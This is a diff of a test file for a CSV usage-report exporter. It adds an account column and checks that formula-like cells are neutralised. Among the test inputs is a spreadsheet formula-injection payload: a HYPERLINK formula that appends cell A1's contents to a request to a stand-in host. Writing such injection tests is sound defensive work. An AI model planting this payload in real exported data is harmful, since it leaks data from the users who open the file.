@@ -79,6 +79,7 @@ describe('usage CSV', () => {
     day: '2026-11-01',
     key: 'key_aaaaaaaaaaaaaaaa',
     name: 'acme',
+    account: '',
     chain: '1',
     route: 'token-balances',
     requests: 3,
@@ -98,21 +99,34 @@ describe('usage CSV', () => {
     for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
       const line = cells(usageCsv([row({ name: `${lead}HYPERLINK("http://x.example/?"&A1,"y")` })]));
       const name = `"'${lead}HYPERLINK(""http://x.example/?""&A1,""y"")"`;
-      expect(line).toBe(`2026-11-01,key_aaaaaaaaaaaaaaaa,${name},1,token-balances,3,40,1,0,0,0,0,0,0`);
+      expect(line).toBe(`2026-11-01,key_aaaaaaaaaaaaaaaa,${name},1,token-balances,3,40,1,0,0,0,0,0,0,`);
     }
     expect(cells(usageCsv([row({ key: '=1+1', chain: '+1', route: '@SUM(A1)' })]))).toBe(
-      `2026-11-01,"'=1+1",acme,"'+1","'@SUM(A1)",3,40,1,0,0,0,0,0,0`,
+      `2026-11-01,"'=1+1",acme,"'+1","'@SUM(A1)",3,40,1,0,0,0,0,0,0,`,
     );
     // A semicolon starts a cell for spreadsheets set to split on it: such a cell is quoted.
-    expect(cells(usageCsv([row({ name: 'a;=1+1' })]))).toBe(`2026-11-01,key_aaaaaaaaaaaaaaaa,"a;=1+1",1,token-balances,3,40,1,0,0,0,0,0,0`);
+    expect(cells(usageCsv([row({ name: 'a;=1+1' })]))).toBe(
+      `2026-11-01,key_aaaaaaaaaaaaaaaa,"a;=1+1",1,token-balances,3,40,1,0,0,0,0,0,0,`,
+    );
   });
 
   it('leaves numbers numbers, negative ones included, and plain names as they were', () => {
     expect(cells(usageCsv([row({ credits: -20, requests: 0, errors: 1 })]))).toBe(
-      '2026-11-01,key_aaaaaaaaaaaaaaaa,acme,1,token-balances,0,-20,1,0,0,0,0,0,1',
+      '2026-11-01,key_aaaaaaaaaaaaaaaa,acme,1,token-balances,0,-20,1,0,0,0,0,0,1,',
     );
-    expect(cells(usageCsv([row({ name: null })]))).toBe('2026-11-01,key_aaaaaaaaaaaaaaaa,,1,token-balances,3,40,1,0,0,0,0,0,0');
-    expect(cells(usageCsv([row({ name: 'a-b c@d' })]))).toBe('2026-11-01,key_aaaaaaaaaaaaaaaa,a-b c@d,1,token-balances,3,40,1,0,0,0,0,0,0');
+    expect(cells(usageCsv([row({ name: null })]))).toBe('2026-11-01,key_aaaaaaaaaaaaaaaa,,1,token-balances,3,40,1,0,0,0,0,0,0,');
+    expect(cells(usageCsv([row({ name: 'a-b c@d' })]))).toBe(
+      '2026-11-01,key_aaaaaaaaaaaaaaaa,a-b c@d,1,token-balances,3,40,1,0,0,0,0,0,0,',
+    );
+  });
+
+  it('hourly CSV has the hour after the day; the account, last, is neutralised as every text cell is', () => {
+    const csv = usageCsv([row({ hour: '2026-11-01T13:00:00Z', account: '=acc' })], true);
+    expect(csv.split('\r\n')[0]).toBe(
+      'day,hour,key,name,chain,route,requests,credits,cacheHits,refused,rateLimited,outOfCredits,forbidden,clientErrors,errors,account',
+    );
+    expect(cells(csv)).toBe(`2026-11-01,2026-11-01T13:00:00Z,key_aaaaaaaaaaaaaaaa,acme,1,token-balances,3,40,1,0,0,0,0,0,0,"'=acc"`);
+    expect(cells(usageCsv([row({ account: 'acc_abc' })]))).toMatch(/,acc_abc$/);
   });
 
   it('a key named as a formula is exported as text by GET /usage?format=csv', async () => {
